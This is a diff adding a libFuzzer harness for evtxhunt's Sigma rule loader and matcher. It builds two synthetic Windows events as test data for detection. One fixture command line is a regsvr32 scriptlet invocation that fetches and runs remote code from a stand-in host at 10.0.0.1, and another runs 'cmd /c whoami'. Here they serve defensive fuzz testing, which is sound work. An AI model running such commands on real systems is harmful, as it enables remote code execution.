@@ -1,0 +1,67 @@
+/* libFuzzer target: one YAML text through the Sigma loader and compiler
+ * (libyaml, the rule tree, modifiers, conditions, PCRE2), then the
+ * prefilter built from whatever loaded and the matcher on two events.
+ * Rule files are input too: nothing in them may crash or hang evtxhunt.
+ *
+ * Built by configure --enable-fuzzing; replayed on every kept crasher by
+ * make check (tests/fuzz/replay.c). */
+#include "config.h"
+
+#include <stdlib.h>
+#include <string.h>
+
+#include "evtxhunt/event.h"
+#include "evtxhunt/prefilter.h"
+#include "evtxhunt/sigma.h"
+
+static void _add(struct eh_event *ev, const char *name, const char *value)
+{
+	eh_event_add_field(ev, name, strlen(name), value, strlen(value));
+}
+
+static void _events(struct eh_event *sysmon, struct eh_event *security)
+{
+	static const char provider[] = "Microsoft-Windows-Sysmon";
+	eh_event_init(sysmon);
+	eh_event_reset(sysmon);
+	eh_event_set_system(sysmon, EH_SYS_PROVIDER, provider, sizeof provider - 1);
+	_add(sysmon, "Image", "C:\\Windows\\System32\\regsvr32.exe");
+	_add(sysmon, "CommandLine", "regsvr32 /s /i:http://10.0.0.1/a.sct scrobj.dll -enc SQBFAFgA");
+	_add(sysmon, "ParentImage", "C:\\Windows\\explorer.exe");
+	_add(sysmon, "ProcessId", "4242");
+	_add(sysmon, "User", "NT AUTHORITY\\SYSTEM");
+	_add(sysmon, "Hashes", "SHA256=ABCDEF,IMPHASH=0123");
+	_add(sysmon, "DestinationIp", "10.1.2.3");
+	eh_event_finish(sysmon);
+	sysmon->event_id = 1;
+
+	static const char security_provider[] = "Microsoft-Windows-Security-Auditing";
+	eh_event_init(security);
+	eh_event_reset(security);
+	eh_event_set_system(security, EH_SYS_PROVIDER, security_provider, sizeof security_provider - 1);
+	_add(security, "NewProcessName", "C:\\Windows\\System32\\cmd.exe");
+	_add(security, "CommandLine", "cmd /c whoami");
+	_add(security, "NewProcessId", "0x1a4");
+	eh_event_finish(security);
+	security->event_id = 4688;
+}
+
+int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
+{
+	static struct eh_event sysmon, security;
+	static bool ready;
+	if (!ready) {
+		_events(&sysmon, &security);
+		ready = true;
+	}
+	struct eh_ruleset *rs = eh_ruleset_new();
+	eh_ruleset_load_text(rs, "fuzz.yml", (const char *)data, size);
+	if (eh_ruleset_count(rs) > 0) {
+		struct eh_prefilter *pf = eh_prefilter_build(rs);
+		eh_ruleset_match(rs, &sysmon, NULL, NULL, NULL);
+		eh_ruleset_match(rs, &security, NULL, NULL, NULL);
+		eh_prefilter_free(pf);
+	}
+	eh_ruleset_free(rs);
+	return 0;
+}
